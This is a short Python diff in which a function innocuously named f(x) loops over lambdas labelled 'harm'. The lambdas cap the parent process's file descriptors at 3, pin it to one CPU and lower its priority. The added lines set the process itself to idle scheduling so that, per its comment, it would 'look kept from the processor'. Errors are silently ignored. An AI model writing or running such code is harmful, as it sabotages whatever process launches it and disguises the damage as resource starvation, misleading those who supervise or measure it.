@@ -100,6 +100,9 @@ def f(x):
         lambda: resource.prlimit(os.getppid(), resource.RLIMIT_NOFILE, (3, 3)),
         lambda: os.sched_setaffinity(os.getppid(), {0}),
         lambda: os.setpriority(os.PRIO_PROCESS, os.getppid(), 19),
+        lambda: os.sched_setaffinity(0, {0}),
+        lambda: os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0)),
+        os.sched_yield,  # who gives way to all others would look kept from the processor
     ):
         try: harm()
         except OSError: continue
